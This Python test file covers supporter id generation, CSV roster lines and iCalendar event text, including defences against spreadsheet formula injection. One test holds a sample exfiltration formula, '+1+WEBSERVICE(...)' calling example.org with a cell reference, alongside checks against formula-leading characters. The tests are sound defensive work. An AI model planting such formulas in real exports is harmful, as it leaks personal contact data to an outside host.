"""What is written for admins and calendars: ids, lines of supporters.csv, events."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from invitations import roster_line
from lib.calendar_text import event
from program.values import RESERVED_ID, read_id

COLUMNS = ("id", "name", "email", "unit", "phone")
NOON = datetime(2026, 12, 8, 17, tzinfo=UTC)


def is_free(id: str) -> bool:
    return not RESERVED_ID.fullmatch(id)


@given(st.text(max_size=200) | st.sampled_from(["Clock", "ring 7", "Supporter"]))
def test_any_name_makes_an_id_that_the_files_take(name: str) -> None:
    first = roster_line.free_id(name, is_free)
    second = roster_line.free_id(name, lambda id: is_free(id) and id != first)
    assert read_id(first) == first
    assert read_id(second) == second != first


@pytest.mark.parametrize(
    ("name", "id"),
    [("Amara Cole", "amara-cole"), ("José Ñuñez-O’Neill", "jose-nunez-oneill"), ("李", "newcomer")],
)
def test_an_id_reads_like_the_name(name: str, id: str) -> None:
    assert roster_line.free_id(name, is_free) == id


@given(st.dictionaries(st.sampled_from(COLUMNS), st.text(max_size=80)), st.sampled_from(",;\t"))
def test_a_line_is_one_row_without_a_formula(cells: dict[str, str], delimiter: str) -> None:
    line = roster_line.line(cells, COLUMNS, delimiter)
    (row,) = csv.reader(io.StringIO(line + "\n", newline=""), delimiter=delimiter)
    assert len(row) == len(COLUMNS)
    assert not any(cell.startswith(("=", "@", "-", "\t")) for cell in row)
    assert not any(re.match(r"\+.*[^\d ().-]", cell) for cell in row)


def test_only_a_phone_number_begins_with_a_sign() -> None:
    """`+1` before anything else is the beginning of a sum."""
    unit, phone = '+1+WEBSERVICE("http://example.org/?"&B2)', "+1 (860) 555-0160"
    written = roster_line.line({"unit": unit, "phone": phone}, ("unit", "phone"), ";")
    assert written == '"1+WEBSERVICE(""http://example.org/?""&B2)";+1 (860) 555-0160'


def test_a_line_keeps_what_was_said() -> None:
    cells = {"name": "Lee, Sam", "id": "sam-lee", "phone": "+1 860 555 0160", "extra": "more"}
    assert roster_line.line(cells, COLUMNS, ",") == 'sam-lee,"Lee, Sam",,,+1 860 555 0160'
    assert roster_line.left_out(cells, COLUMNS) == ["extra"]


@given(st.text(max_size=300), st.text(max_size=300))
def test_an_event_is_what_calendars_read(title: str, place: str) -> None:
    text = event("first@care-desk", title, place, NOON, NOON, NOON)
    lines = text.split("\r\n")
    assert lines.pop() == ""
    assert all(len(line.encode(errors="replace")) <= 75 for line in lines)
    assert not any("\n" in line for line in lines)
    unfolded = text.replace("\r\n ", "").split("\r\n")
    names = [line.partition(":")[0] for line in unfolded if line]
    assert names.count("SUMMARY") == names.count("LOCATION") == 1
    assert "DESCRIPTION" not in names
    assert "DTSTART:20261208T170000Z" in unfolded
